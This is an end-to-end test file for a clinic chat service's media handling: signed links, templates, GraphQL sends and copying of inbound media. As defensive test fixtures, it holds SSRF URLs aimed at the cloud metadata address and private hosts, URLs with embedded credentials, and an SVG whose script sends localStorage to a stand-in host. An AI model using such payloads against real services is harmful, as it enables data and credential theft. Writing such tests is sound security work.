import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { Clinic, Template } from '../src/entities/index.ts';
import { syncTemplates } from '../src/services/chat/template-sync.ts';
import { startTestApp, type TestApp } from './helpers.ts';
import { jpeg, pdf, png, serve, type TestServer } from './media-files.ts';

/**
 * Media end to end: a send downloads the caller's file from a real HTTP server on loopback
 * (the test app's clinics are test clinics, whose URLs may be plain http on loopback), keeps its own copy, and the network fetches it through a
 * signed link served by the service; inbound media is copied from the network into the store.
 */
let app: TestApp;
let read: string;
let write: string;
let clinicPhone: string;
let files: TestServer;
let n = 0;
let voiceServed = false;
const big = Buffer.concat([png(), Buffer.alloc(17 << 20)]);

beforeAll(async () => {
  app = await startTestApp({ limits: { mediaDownloadTimeoutMs: 1500 } });
  const c = await app.clinicWithKey('dental', ['chat:read']);
  read = c.key;
  write = await app.key(c.clinicId, ['chat:write']);
  clinicPhone = (await app.orm.em.fork().findOneOrFail(Clinic, c.clinicId)).phone as string;
  await syncTemplates(app.orm.em.fork(), c.clinicId, app.server.network);
  files = await serve((req, res) => {
    const path = req.url ?? '';
    if (path === '/photo.jpg') return res.end(jpeg());
    if (path === '/scan.png') return res.end(png());
    if (path === '/files/Treatment%20plan') return res.end(pdf());
    // Served once, like a network's short-lived media URL.
    if (path === '/voice.ogg' && !voiceServed) {
      voiceServed = true;
      // An Ogg Vorbis page's header, enough for the sniffer: a test clinic keeps only media it recognises.
      return res.end(
        Buffer.concat([
          Buffer.from('OggS'),
          Buffer.alloc(24),
          Buffer.from('\x01vorbis', 'latin1'),
          Buffer.alloc(20),
        ]),
      );
    }
    if (path === '/not-a-pdf.pdf') return res.end(png());
    if (path === '/declared-svg') {
      res.writeHead(200, { 'content-type': 'image/svg+xml' });
      return res.end(png());
    }
    if (path === '/huge.png') return res.end(big);
    if (path === '/slow.png') {
      res.write(png().subarray(0, 10));
      return; // never ends
    }
    if (path === '/to-metadata') {
      res.writeHead(302, { location: 'https://169.254.169.254/latest/meta-data/' });
      return res.end();
    }
    if (path === '/to-private') {
      res.writeHead(302, { location: 'https://10.0.0.1/x.png' });
      return res.end();
    }
    res.writeHead(404).end();
  });
});

beforeEach(() => app.clock.set('2026-11-01T10:00:00Z'));

const newPhone = () => `+97252${String(2000000 + ++n * 13)}`;
const send = (body: unknown) => app.post('/v1/chat/messages', body, write);

describe('sending media', () => {
  it('an image: kept, sent as the clinic image template, its caption a text right after', async () => {
    const to = newPhone();
    await app.server.network.inbound({ clinicPhone, from: to, text: 'Send me the x-ray' });
    const r = await send({
      to,
      media: { type: 'image', url: `${files.url}/photo.jpg`, caption: 'Your x-ray' },
    });
    expect(r.status).toBe(202);
    expect(r.body.data).toMatchObject({
      type: 'image',
      status: 'queued',
      template: 'clinic_image',
      media: { available: true, type: 'image' },
    });
    expect(r.body.meta).toEqual({
      delivery_mode: 'template',
      caption: { id: expect.stringMatching(/^out_\d+$/), delivery_mode: 'free_text' },
    });
    const caption = (await app.get(`/v1/chat/messages/${r.body.meta.caption.id}`, read)).body.data;
    expect(caption).toMatchObject({ type: 'text', text: 'Your x-ray', template: null });
    expect(caption.created_at >= r.body.data.created_at).toBe(true);

    // The network fetched the media from the service's signed link; the receipts follow.
    await app.settle();
    const sent = app.server.network.sent.filter((s) => s.to === to);
    expect(sent).toMatchObject([
      { kind: 'media', template: 'clinic_image', mediaType: 'image' },
      { kind: 'text', text: 'Your x-ray' },
    ]);
    expect((await app.get(`/v1/chat/messages/${r.body.data.id}`, read)).body.data.status).toBe('read');

    // The link: the service's own copy, valid about 10 hours; altered or expired, refused.
    const link = (await app.get(`/v1/chat/messages/${r.body.data.id}/media`, read)).body.data;
    expect(link.expires_at).toBe('2026-11-01T20:00:00.000Z');
    const got = await fetch(link.url);
    expect(got.status).toBe(200);
    expect(got.headers.get('content-type')).toBe('image/jpeg');
    expect(Buffer.from(await got.arrayBuffer()).equals(jpeg())).toBe(true);
    const altered = link.url.replace(/.$/, (c: string) => (c === 'A' ? 'B' : 'A'));
    expect((await fetch(altered)).status).toBe(404);
    app.clock.set('2026-11-01T20:00:01Z');
    expect((await fetch(link.url)).status).toBe(404);
  });

  it('a document: its file name defaults to the URL’s, .pdf appended; the caption outside the window is template_fallback', async () => {
    const to = newPhone();
    const r = await send({
      to,
      media: { type: 'document', url: `${files.url}/files/Treatment%20plan`, caption: 'Plan' },
    });
    expect(r.status).toBe(202);
    expect(r.body.data.template).toBe('clinic_document');
    expect(r.body.meta.caption.delivery_mode).toBe('template_fallback');
    const link = (await app.get(`/v1/chat/messages/${r.body.data.id}/media`, read)).body.data;
    const got = await fetch(link.url);
    expect(got.headers.get('content-disposition')).toContain('Treatment plan.pdf');
    const named = await send({
      to,
      media: { type: 'document', url: `${files.url}/files/Treatment%20plan`, filename: 'Invoice 7' },
    });
    const named2 = (await app.get(`/v1/chat/messages/${named.body.data.id}/media`, read)).body.data;
    expect((await fetch(named2.url)).headers.get('content-disposition')).toContain('Invoice 7.pdf');
    expect(named.body.meta.caption).toBeNull();
  });

  it('through GraphQL: the typed input (media.type an enum, filename, caption) makes the same send', async () => {
    const to = newPhone();
    await app.server.network.inbound({ clinicPhone, from: to, text: 'The plan, please' });
    const r = await app.gql(
      `mutation($input: SendMessageInput!) { sendMessage(input: $input) {
         message { id type status template media { available type } }
         meta { deliveryMode caption { id deliveryMode } } } }`,
      {
        input: {
          to,
          media: {
            type: 'DOCUMENT',
            url: `${files.url}/files/Treatment%20plan`,
            filename: 'Plan 3',
            caption: 'Plan',
          },
          idempotencyKey: `gql-media-${to}`,
        },
      },
      write,
    );
    expect(r.body.errors).toBeUndefined();
    const { message, meta } = r.body.data.sendMessage;
    expect(message).toMatchObject({
      type: 'DOCUMENT',
      status: 'QUEUED',
      template: 'clinic_document',
      media: { available: true, type: 'DOCUMENT' },
    });
    expect(meta).toEqual({
      deliveryMode: 'TEMPLATE',
      caption: { id: expect.stringMatching(/^out_\d+$/), deliveryMode: 'FREE_TEXT' },
    });
    const link = (await app.get(`/v1/chat/messages/${message.id}/media`, read)).body.data;
    expect((await fetch(link.url)).headers.get('content-disposition')).toContain('Plan 3.pdf');
    expect((await app.get(`/v1/chat/messages/${meta.caption.id}`, read)).body.data.text).toBe('Plan');
    // The send's own check, named as the input has it: a filename goes with documents only.
    const refused = await app.gql(
      'mutation($input: SendMessageInput!) { sendMessage(input: $input) { message { id } } }',
      { input: { to, media: { type: 'IMAGE', url: `${files.url}/scan.png`, filename: 'x' } } },
      write,
    );
    expect(refused.body.errors[0].extensions).toMatchObject({
      code: 'validation_failed',
      param: 'input.media.filename',
    });
  });

  it('refuses, with a 422 before anything is sent: wrong type, too large, slow, 404, not https, private addresses', async () => {
    const to = newPhone();
    await app.settle();
    const before = app.server.network.sent.length;
    const cases: [Record<string, unknown>, RegExp][] = [
      [{ type: 'document', url: `${files.url}/not-a-pdf.pdf` }, /not a PDF/],
      [{ type: 'image', url: `${files.url}/files/Treatment%20plan` }, /not a JPEG or PNG/],
      [{ type: 'image', url: `${files.url}/huge.png` }, /16777216|too large/],
      [{ type: 'image', url: `${files.url}/slow.png` }, /timed out/],
      [{ type: 'image', url: `${files.url}/missing.png` }, /status 404/],
      [{ type: 'image', url: 'ftp://example.com/a.png' }, /https/],
      [{ type: 'image', url: `${files.url}/to-metadata` }, /not allowed|link-local/],
      [{ type: 'image', url: `${files.url}/to-private` }, /not allowed|private/],
      [{ type: 'image', url: 'https://169.254.169.254/latest' }, /not allowed|link-local/],
      [{ type: 'image', url: 'https://10.1.2.3/a.png' }, /not allowed|private/],
      // Refused as the body is read (the download would name the scheme first), and again by the
      // download before it connects (no connection is made: checked in the loop).
      [
        { type: 'image', url: 'ftp://user:secret@example.com/a.png' },
        /^media\.url must not carry a user name or password\.$/,
      ],
      [
        { type: 'image', url: `http://user:secret@127.0.0.1:${files.port}/scan.png` },
        /must not carry a user name or password/,
      ],
      [
        { type: 'image', url: `http://user@127.0.0.1:${files.port}/scan.png` },
        /must not carry a user name or password/,
      ],
    ];
    for (const [media, message] of cases) {
      const connections = files.connections;
      const r = await send({ to, media });
      expect(r.status, JSON.stringify(media)).toBe(422);
      expect(r.body.error.param, JSON.stringify(media)).toBe('media.url');
      expect(r.body.error.message, JSON.stringify(media)).toMatch(message);
      // A URL with credentials is refused before any connection.
      if (/user name/.test(message.source)) expect(files.connections).toBe(connections);
    }
    expect(
      (await send({ to, media: { type: 'image', url: `${files.url}/scan.png`, filename: 'x' } })).body.error
        .param,
    ).toBe('media.filename');
    expect(
      (await send({ to, media: { type: 'image', url: `${files.url}/scan.png`, caption: 'x'.repeat(1025) } }))
        .body.error.param,
    ).toBe('media.caption');
    expect(app.server.network.sent.length).toBe(before);
    expect((await app.get(`/v1/chat/messages?phone=${to}`, read)).body.data).toEqual([]);
  });

  it('through GraphQL too: a media.url with a user name or password is refused, nothing fetched', async () => {
    const connections = files.connections;
    const r = await app.gql(
      'mutation($input: SendMessageInput!) { sendMessage(input: $input) { message { id } } }',
      {
        input: {
          to: newPhone(),
          media: { type: 'IMAGE', url: `http://u:p@127.0.0.1:${files.port}/scan.png` },
        },
      },
      write,
    );
    expect(r.body.errors?.[0]).toMatchObject({
      message: expect.stringMatching(/media\.url must not carry a user name or password\.$/),
      extensions: { code: 'validation_failed', param: 'input.media.url' },
    });
    expect(files.connections).toBe(connections);
  });
});

describe('a caption that could not go out', () => {
  it('refuses the send before the media goes (window closed, no marketing template)', async () => {
    const c = await app.clinicWithKey('dental', ['chat:write'], 'no fallback template');
    await syncTemplates(app.orm.em.fork(), c.clinicId, app.server.network);
    await app.orm.em
      .fork()
      .nativeDelete(Template, { clinic: c.clinicId, role: 'fallback' }, { filters: false });
    await app.settle();
    const before = app.server.network.sent.length;
    const body = {
      to: newPhone(),
      media: { type: 'image', url: `${files.url}/photo.jpg`, caption: 'Your x-ray' },
    };
    const r = await app.post('/v1/chat/messages', body, c.key);
    expect(r.status).toBe(422);
    expect(r.body.error.param).toBe('media.caption');
    expect(app.server.network.sent.length).toBe(before);
    const [{ n }] = await app.orm.em
      .fork()
      .getConnection()
      .execute<{ n: number }[]>('select count(*)::int as n from message where clinic_id = ?', [c.clinicId]);
    expect(n).toBe(0);
    // Without the caption it goes.
    const { caption: _, ...media } = body.media;
    expect((await app.post('/v1/chat/messages', { ...body, media }, c.key)).status).toBe(202);
  });
});

describe('a caption that failed after its image was written', () => {
  it('takes the image back with it (one transaction): the retry with the same key sends the image once', async () => {
    const sql = (text: string) => app.orm.em.fork().getConnection().execute(text);
    const images = async (to: string) =>
      (
        await app.orm.em
          .fork()
          .getConnection()
          .execute<{ n: number }[]>(
            `select count(*)::int as n from message where patient_phone = '${to}' and type = 'image'`,
          )
      )[0].n;
    // The database refuses the caption's row (a fault after the image's row was written).
    await sql(`create function fail_caption() returns trigger language plpgsql as $$
      begin if new.text = 'FAIL-CAPTION' then raise exception 'caption refused'; end if; return new; end $$`);
    await sql(
      `create trigger fail_caption before insert on message for each row execute function fail_caption()`,
    );
    const to = newPhone();
    await app.server.network.inbound({ clinicPhone, from: to, text: 'Send me the x-ray' });
    const body = { to, media: { type: 'image', url: `${files.url}/photo.jpg`, caption: 'FAIL-CAPTION' } };
    const headers = { 'idempotency-key': `caption-${to}` };
    try {
      const first = await app.post('/v1/chat/messages', body, write, headers);
      expect(first.status).toBeGreaterThanOrEqual(500);
      // The image's row went with the caption's: nothing recorded, nothing queued to send.
      expect(await images(to)).toBe(0);
    } finally {
      await sql('drop trigger fail_caption on message');
      await sql('drop function fail_caption()');
    }
    // Nothing was written, so the key is free for the retry, which sends the image once.
    const retry = await app.post('/v1/chat/messages', body, write, headers);
    expect(retry.status).toBe(202);
    expect(retry.body.meta.caption.id).toMatch(/^out_/);
    expect(await images(to)).toBe(1);
  });
});

describe('inbound media', () => {
  const inboundImage = async (url: string, mime: string) => {
    const r = (await app.server.network.inbound({
      clinicPhone,
      from: newPhone(),
      text: null,
      media: { url, type: 'image', mime },
    })) as { id: string };
    return r.id;
  };
  const objectOf = async (id: string) => {
    const [row] = await app.orm.em
      .fork()
      .getConnection()
      .execute(`select m.media_path from message m where m.id = ?`, [Number(id.replace(/^\D+_/, ''))]);
    return Number(String(row.media_path).replace('med_', ''));
  };

  it('is kept under the type its bytes sniff as, not the one the network declares (image/svg+xml)', async () => {
    const id = await inboundImage(`${files.url}/declared-svg`, 'image/svg+xml');
    const [row] = await app.orm.em
      .fork()
      .getConnection()
      .execute('select mime from media_object where id = ?', [await objectOf(id)]);
    expect(row.mime).toBe('image/png');
  });

  it('a stored SVG (the row simulated, as the issue did) is served as an octet-stream attachment under the sandbox CSP', async () => {
    const id = await inboundImage(`${files.url}/scan.png`, 'image/png');
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x/"+JSON.stringify(localStorage))</script></svg>';
    await app.orm.em
      .fork()
      .getConnection()
      .execute(`update media_object set mime = 'image/svg+xml', bytes = convert_to(?, 'UTF8') where id = ?`, [
        svg,
        await objectOf(id),
      ]);
    const link = (await app.get(`/v1/chat/messages/${id}/media`, read)).body.data;
    const got = await fetch(link.url);
    expect(got.status).toBe(200);
    expect(Object.fromEntries(got.headers)).toMatchObject({
      'content-type': 'application/octet-stream',
      'content-disposition': 'attachment',
      'content-security-policy': "sandbox; default-src 'none'",
      'x-content-type-options': 'nosniff',
    });
    expect(await got.text()).toBe(svg);
  });

  it('is copied from the network into the store: the link serves the copy after the original is gone', async () => {
    const from = newPhone();
    const r = (await app.server.network.inbound({
      clinicPhone,
      from,
      text: null,
      media: { url: `${files.url}/voice.ogg`, type: 'audio', mime: 'audio/ogg' },
    })) as { id: string };
    const m = (await app.get(`/v1/chat/messages/${r.id}`, read)).body.data;
    expect(m).toMatchObject({ type: 'audio', media: { available: true, type: 'audio' } });
    expect((await fetch(`${files.url}/voice.ogg`)).status).toBe(404);
    const link = (await app.get(`/v1/chat/messages/${r.id}/media`, read)).body.data;
    const got = await fetch(link.url);
    expect(got.status).toBe(200);
    expect(got.headers.get('content-type')).toBe('audio/ogg');
    expect((await got.text()).startsWith('OggS')).toBe(true);
    // A message without media: 404.
    const text = (await app.server.network.inbound({ clinicPhone, from, text: 'plain' })) as { id: string };
    const none = await app.get(`/v1/chat/messages/${text.id}/media`, read);
    expect(none.status).toBe(404);
    expect((await app.get(`/v1/chat/messages/${text.id.slice(3)}/media`, read)).status).toBe(404);
  });
});
